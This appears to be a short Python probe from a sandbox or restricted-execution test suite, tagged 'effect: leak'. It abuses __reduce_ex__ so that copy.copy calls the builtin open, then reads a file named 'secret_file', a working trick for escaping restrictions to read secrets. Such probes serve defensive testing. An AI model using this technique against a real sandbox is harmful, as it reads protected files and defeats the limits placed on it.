# effect: leak
# note: copy calls what __reduce_ex__ names
import copy


class Opened:
    def __init__(self, path):
        self.path = path

    def __reduce_ex__(self, protocol):
        return open, (self.path,)


def attempt(probe):
    return copy.copy(Opened(probe["secret_file"])).read()
